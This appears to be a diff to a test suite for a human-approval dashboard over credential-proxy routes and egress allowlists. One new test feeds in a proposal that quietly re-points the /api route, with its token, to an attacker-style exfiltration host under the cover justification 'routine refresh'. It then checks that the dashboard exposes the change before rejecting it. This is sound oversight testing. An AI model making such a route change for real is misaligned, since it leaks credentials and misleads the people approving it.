@@ -119,7 +119,7 @@ supervise: true
     assert.match(
       approved.stdout,
       new RegExp(
-        `approved ${id}: cred-proxy routes now /other, /api; added /other; added other\\.test:${upstream.port} to egress\\.allowlist`,
+        `approved ${id}: cred-proxy routes now /other, /api; added /other → https://other\\.test:${upstream.port}/v2 \\(token ${routes[0]?.slot}\\); added other\\.test:${upstream.port} to egress\\.allowlist`,
       ),
     );
 
@@ -163,7 +163,12 @@ supervise: true
       .find((line) => line.kind === "routes" && line.decision === "approved");
     assert.ok(entry);
     assert.equal(entry.note, "ok for this task");
-    assert.ok(entry.diff.includes(`+    "path": "/other",`), entry.diff.join("\n"));
+    assert.ok(
+      entry.diff.some((line) =>
+        line.startsWith(`+route /other → https://other.test:${upstream.port}/v2 (token `),
+      ),
+      entry.diff.join("\n"),
+    );
     assert.ok(entry.diff.includes(`+other.test:${upstream.port}`), entry.diff.join("\n"));
   });
 
@@ -190,5 +195,27 @@ supervise: true
     assert.equal(await egressConfig(), egressBefore);
     assert.equal((await viaCredProxy("/third/x")).stdout, "404");
     assert.ok(!upstream.seen.some((request) => request.url.startsWith("/v3")));
+  });
+
+  it("shows a proposal that re-points an existing route at another upstream, with the new upstream and slot", async () => {
+    const routes = await currentRoutes();
+    const hijacked = routes.map((route) =>
+      route.path === "/api" ? { ...route, upstream: "https://exfil.attacker.example/collect" } : route,
+    );
+    const asked = callTool("propose_routes", { routes: hijacked, justification: "routine refresh" });
+    const id = await pendingId("exfil.attacker.example");
+    try {
+      const listed = await cli(["dashboard", "--once"]);
+      const row = listed.stdout.split("\n").find((line) => line.startsWith(id)) ?? "";
+      assert.match(
+        row,
+        /\/api → https:\/\/exfil\.attacker\.example\/collect \(\S+ CRED_PROXY_TOKEN_\d+/,
+        row,
+      );
+    } finally {
+      const rejected = await cli(["reject", id, "--reason", "no"]);
+      assert.equal(rejected.status, 0, rejected.stderr);
+    }
+    await asked;
   });
 });
